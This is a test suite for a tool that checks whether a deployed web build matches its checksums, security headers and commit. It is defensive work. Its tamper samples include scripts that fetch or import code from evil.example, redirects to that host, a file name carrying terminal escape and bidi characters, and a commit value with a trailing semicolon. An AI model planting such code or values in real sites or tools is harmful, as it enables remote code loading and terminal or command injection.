import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import { CHECKSUMS, writeChecksums } from '../../deploy/build/finish-build.ts';
import { expectedHeaders } from '../../deploy/verify/expected-headers.ts';
import { verifyDeployment } from '../../deploy/verify/verify-deployment.ts';
import { hashedFiles } from '../support/browser/built-files.ts';
import { lacks } from '../support/machine/lacks.ts';
import { type RecordingServer, startServer } from '../support/servers/recording-server.ts';
import { type RunningServer, startWebServer } from '../support/servers/start-web-server.ts';
import { SUB_PATH, WEB_SERVERS } from '../support/servers/web-servers.ts';
import { makeRepository, type SmallRepository } from '../support/small-repository.ts';

/** Runs the command as its words say; `text` is all that it wrote. */
async function run(...words: readonly string[]): Promise<{ code: number; text: string }> {
  let text = '';
  const code = await verifyDeployment(words, (part) => {
    text += part;
  });
  return { code, text };
}

const PERMISSIONS = ['camera', 'microphone', 'geolocation', 'usb', 'payment'];

let host: RecordingServer;
/** What the host serves: a copy of the build that a test may change. */
let folder: string;
/** Says something else of an address than the file that is there. */
let special: (path: string, response: ServerResponse) => boolean;
/** Changes the headers of a file. */
let headersOf: (name: string, headers: Record<string, string>) => Record<string, string>;

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'claimcheck-copy-'));
  cpSync(inject('builtPage'), folder, { recursive: true });
  special = () => false;
  headersOf = (_, headers) => headers;
  host = await startServer();
  host.answerWith((request, response) => {
    const { pathname } = new URL(request.url ?? '/', host.origin);
    if (special(pathname, response)) return;
    const name = pathname.slice('/jwt/'.length);
    const sent: Record<string, string> = {
      'permissions-policy': PERMISSIONS.map((feature) => `${feature}=()`).join(', '),
    };
    const expected = expectedHeaders(name, (each) =>
      readFileSync(join(inject('builtPage'), each), 'utf8'),
    );
    for (const [header, value] of Object.entries(expected)) if (value) sent[header] = value;
    try {
      const content = readFileSync(join(folder, name || 'index.html'));
      response.writeHead(200, headersOf(name, sent)).end(content);
    } catch {
      response.writeHead(404).end();
    }
  });
});

afterEach(async () => {
  rmSync(folder, { recursive: true, force: true });
  await host.close();
});

const check = (...options: readonly string[]) =>
  run(`${host.origin}/jwt/`, '--dist', inject('builtPage'), ...options);

function change(name: string, edit: (text: string) => string): void {
  const path = join(folder, name);
  writeFileSync(path, edit(readFileSync(path, 'utf8')));
}

describe('a copy as it was built', () => {
  test('passes, and every file of the build was requested', async () => {
    const { code, text } = await check();
    expect(text).toMatch(/The copy serves the bytes of the build/);
    expect(code).toBe(0);
    const requested = new Set(host.requests.map(({ path }) => path));
    const sums = readFileSync(join(folder, CHECKSUMS), 'utf8').trimEnd().split('\n');
    expect(sums.length).toBeGreaterThan(100);
    for (const line of sums) expect(requested).toContain(`/jwt/${line.slice(66)}`);
  });

  test('says that it uses the network, and where', async () => {
    const { text } = await check();
    expect(text).toMatch(/^Checking http:\/\/localhost:\d+\/jwt\/ over the network\.\n/);
  });

  test('passes at an address that names the page or lacks the slash', async () => {
    for (const address of ['/jwt', '/jwt/index.html', '/jwt/?token=x#y']) {
      const { code } = await run(host.origin + address, '--dist', inject('builtPage'));
      expect(code, address).toBe(0);
    }
  });

  test('passes when the host compresses what it sends', async () => {
    special = (path, response) => {
      if (path !== '/jwt/icon.svg') return false;
      const headers = headersOf('icon.svg', {});
      const content = gzipSync(readFileSync(join(folder, 'icon.svg')));
      response.writeHead(200, { ...headers, 'content-encoding': 'gzip' }).end(content);
      return true;
    };
    expect((await check('--no-headers')).code).toBe(0);
  });

  test('passes when the host has other names for its pages', async () => {
    special = (path, response) => {
      if (path === '/jwt/index.html') response.writeHead(308, { location: './' }).end();
      return path === '/jwt/index.html';
    };
    expect((await check()).code).toBe(0);
  });
});

describe('a changed copy', () => {
  test('fails for one byte of one script', async () => {
    const { worker } = hashedFiles();
    change(worker, (text) => text.replace(/.$/, ' '));
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(new RegExp(`^changed +${worker}: The content differs from byte`, 'm'));
    expect(text).toMatch(/Differences: 1\.\n$/);
  });

  test('fails for a script that is changed with its sum', async () => {
    const { script } = hashedFiles();
    change(script, (text) => `${text}\n//`);
    writeFileSync(join(folder, CHECKSUMS), writeChecksums(folder));
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(new RegExp(`^changed +${script}: The host sends`, 'm'));
    expect(text).toMatch(/^changed +SHA256SUMS: /m);
  });

  test('fails for a changed file that only browsers get, compressed', async () => {
    special = (path, response) => {
      if (path !== '/jwt/manifest.json') return false;
      const content = gzipSync('{"name":"Another"}');
      response.writeHead(200, { 'content-encoding': 'gzip' }).end(content);
      return true;
    };
    const { code, text } = await check('--no-headers');
    expect(code).toBe(1);
    expect(text).toMatch(/^changed +manifest\.json: The host sends 18 bytes/m);
  });

  test('fails for a missing file', async () => {
    rmSync(join(folder, 'service-worker.js'));
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(/^missing +service-worker\.js: The host answers with status 404\.$/m);
  });

  test('names missing files of a host that answers with its page', async () => {
    rmSync(join(folder, 'icon.svg'));
    special = (path, response) => {
      if (path !== '/jwt/icon.svg') return false;
      const page = readFileSync(join(folder, 'index.html'));
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
      return true;
    };
    const { code, text } = await check('--no-headers');
    expect(code).toBe(1);
    expect(text).toMatch(/^changed +icon\.svg: The host answers with an HTML page/m);
  });
});

describe('a copy with a file too many', () => {
  test('fails for a file that only SHA256SUMS of the copy lists', async () => {
    writeFileSync(join(folder, 'assets', 'extra.js'), 'fetch("https://evil.example/")');
    writeFileSync(join(folder, CHECKSUMS), writeChecksums(folder));
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(/^extra +assets\/extra\.js: .* and the host serves it;/m);
  });

  test('fails for a script that only the page of the copy loads', async () => {
    writeFileSync(join(folder, 'assets', 'extra.js'), '0');
    change('index.html', (html) =>
      html.replace('</head>', '<script src="./assets/extra.js"></script></head>'),
    );
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(/^extra +assets\/extra\.js: “(?:index\.html|the page)” refers to it/m);
  });

  test('fails for a file that the service worker of the copy would keep', async () => {
    change('service-worker.js', (code) =>
      code.replace('"url":"index.html"', '$&},{"url":"assets/kept.js"'),
    );
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(/^extra +assets\/kept\.js: “service-worker\.js” refers to it/m);
  });

  test('fails for an address of another host in a script', async () => {
    const { script } = hashedFiles();
    change(script, (code) => `${code};import("https://evil.example/x.js")`);
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toContain('https://evil.example/x.js');
  });

  test('does not let a name in the list command the terminal', async () => {
    change(CHECKSUMS, (sums) => `${sums}${'0'.repeat(64)}  \u001b]0;owned\u0007\u202etxt.js\n`);
    const { code, text } = await check();
    expect(code).toBe(1);
    for (const character of ['\u001b', '\u0007', '\u202e']) expect(text).not.toContain(character);
    expect(text).toMatch(/^extra .*owned.*status 404/m);
  });
});

describe('a copy with weakened headers', () => {
  test.each([
    ['content-security-policy', undefined, ''],
    ['content-security-policy', "default-src *; frame-ancestors 'none'", ''],
    ['content-security-policy', "default-src 'none'", 'claimcheck.html'],
    ['x-content-type-options', undefined, 'manifest.json'],
    ['referrer-policy', 'unsafe-url', ''],
    ['cross-origin-opener-policy', undefined, ''],
    ['permissions-policy', 'camera=*', ''],
    ['cache-control', 'public, max-age=31536000', 'service-worker.js'],
    ['cross-origin-resource-policy', 'same-origin', 'fetch-frame.js'],
  ])('fails for %s %s of “%s”', async (header, value, file) => {
    headersOf = (name, { ...headers }) => {
      if (name !== file) return headers;
      delete headers[header];
      return value === undefined ? headers : { ...headers, [header]: value };
    };
    const { code, text } = await check();
    expect(code).toBe(1);
    expect(text).toMatch(new RegExp(`^header +${file || '\\(the page\\)'}: ${header} `, 'm'));
    expect(text).toMatch(/Differences: 1\.\n$/);
    const without = await check('--no-headers');
    expect(without.code).toBe(0);
    expect(without.text).toContain('Headers were not checked.');
  });

  test('says once what all files lack', async () => {
    headersOf = (_, { 'referrer-policy': __, ...headers }) => headers;
    const { text } = await check();
    expect(text.match(/^header /gm)).toHaveLength(1);
    expect(text).toMatch(/^header +\(the page\), .* and \d{2,} more files: referrer-policy/m);
  });
});

describe('what can’t be checked', () => {
  test('reports a host that does not answer', async () => {
    await host.close();
    const { code, text } = await check();
    expect(code).toBe(2);
    expect(text).toMatch(/^Not checked: .*ECONNREFUSED/m);
  });

  test('reports an address without a page', async () => {
    const { code, text } = await run(`${host.origin}/other/`, '--dist', inject('builtPage'));
    expect(code).toBe(2);
    expect(text).toContain('/other/ answers with status 404.');
  });

  test.each(['http://127.0.0.1:1/', 'https://evil.example/jwt/'])(
    'reports a page that redirects to %s, which is not asked',
    async (location) => {
      special = (_, response) => {
        response.writeHead(302, { location }).end();
        return true;
      };
      const { code, text } = await check();
      expect(code).toBe(2);
      expect(text).toContain(`redirects to ${location}. Check that address instead.`);
    },
  );

  test('reports a page that redirects to itself', async () => {
    special = (_, response) => {
      response.writeHead(302, { location: '.' }).end();
      return true;
    };
    const { code, text } = await check();
    expect(code).toBe(2);
    expect(text).toMatch(/redirects more than 5 times/);
  });

  test('needs a build to compare with a page that names no commit', async () => {
    special = (path, response) => {
      if (path !== '/jwt/') return false;
      response.writeHead(200).end('<title>Claimcheck</title>');
      return true;
    };
    const { code, text } = await run(`${host.origin}/jwt/`);
    expect(code).toBe(2);
    expect(text).toMatch(/The copy names no commit\..*--dist/s);
  });

  test.each([
    [[], /Name the address of a copy/],
    [['ftp://localhost/'], /Name the address of a copy/],
    [['http://localhost/', '--force'], /“--force” is not an option/],
    [['http://localhost/', '--dist', '/nowhere'], /\/nowhere does not contain a build/],
  ])('rejects the words %j', async (words, message) => {
    const { code, text } = await run(...words);
    expect(code).toBe(2);
    expect(text).toMatch(message);
  });
});

test('fails for a part that redirects to another host, which is not asked', async () => {
  special = (path, response) => {
    if (path !== '/jwt/fetch-frame.js') return false;
    response.writeHead(302, { location: 'https://evil.example/fetch-frame.js' }).end();
    return true;
  };
  const { code, text } = await check();
  expect(code).toBe(1);
  expect(text).toMatch(/^redirect fetch-frame\.js: The host redirects to another host/m);
});

describe('a copy that names its commit', () => {
  let repository: SmallRepository;
  let commit: string;
  const page = (named: string) => `<meta name="claimcheck:commit" content="${named}"><p>page</p>`;
  const checkCommit = async () => {
    let text = '';
    const code = await verifyDeployment(
      [`${host.origin}/jwt/`, '--no-headers'],
      (part) => {
        text += part;
      },
      repository.root,
    );
    return { code, text };
  };

  beforeEach(() => {
    const build = [
      'const { execSync } = require("node:child_process");',
      'const { mkdirSync, writeFileSync } = require("node:fs");',
      'const commit = execSync("git rev-parse HEAD").toString().trim();',
      'mkdirSync("dist");',
      `const page = ${JSON.stringify(page(''))};`,
      `writeFileSync("dist/index.html", page.replace('""', '"' + commit + '"'));`,
      'writeFileSync("dist/SHA256SUMS", "");',
    ];
    repository = makeRepository(build.join('\n'));
    commit = repository.commit();
    rmSync(folder, { recursive: true, force: true });
    mkdirSync(folder);
    writeFileSync(join(folder, 'index.html'), page(commit));
    writeFileSync(join(folder, CHECKSUMS), '');
  });
  afterEach(() => repository.remove());

  test('passes when a build of that commit has its bytes, and says how old it is', async () => {
    repository.write('later.txt', 'later');
    repository.commit();
    const { code, text } = await checkCommit();
    expect(text).toContain(`The copy says it is commit ${commit}.\nHEAD is 1 commit newer.`);
    expect(code).toBe(0);
  });

  test('fails when a build of that commit has other bytes', async () => {
    change('index.html', (html) => html.replace('page', 'pwn!'));
    const { code, text } = await checkCommit();
    expect(code).toBe(1);
    expect(text).toMatch(/^changed +\(the page\), index\.html: The content differs/m);
  });

  test('says why that commit can’t be built', async () => {
    repository.write('build.cjs', 'console.error("No words for this."); process.exit(1)');
    writeFileSync(join(folder, 'index.html'), page(repository.commit()));
    const { code, text } = await checkCommit();
    expect(code).toBe(2);
    expect(text).toMatch(
      /^Not checked: [0-9a-f]{40} can’t be built\.\nCommand failed: npm run build/m,
    );
    expect(text).toContain('No words for this.');
  });

  test('builds no commit that is outside the history of HEAD', async () => {
    repository.git('checkout', '-q', '--orphan', 'other');
    repository.write('later.txt', 'later');
    repository.commit();
    const { code, text } = await checkCommit();
    expect(code).toBe(2);
    expect(text).toContain(`does not contain ${commit}`);
  });

  test.each(['HEAD', '--help', `${'0'.repeat(39)};`])('ignores “%s” as a commit', async (named) => {
    writeFileSync(join(folder, 'index.html'), page(named));
    const { code, text } = await checkCommit();
    expect(code).toBe(2);
    expect(text).toContain('The copy names no commit.');
  });
});

describe.each(WEB_SERVERS)('$name with its configuration of deploy', (server) => {
  const isInstalled = server.isInstalled();
  let running: RunningServer;
  beforeEach(({ skip }) => {
    if (!isInstalled) skip(lacks(server.name));
  });
  beforeAll(async () => {
    if (isInstalled) running = await startWebServer(server);
  });
  afterAll(() => running?.stop());

  test('serves a copy that passes with its headers', async () => {
    const { code, text } = await run(running.origin + SUB_PATH, '--dist', inject('builtPage'));
    expect(text).toMatch(/\d{3} files requested\. The copy serves the bytes of the build/);
    expect(code).toBe(0);
  });
});
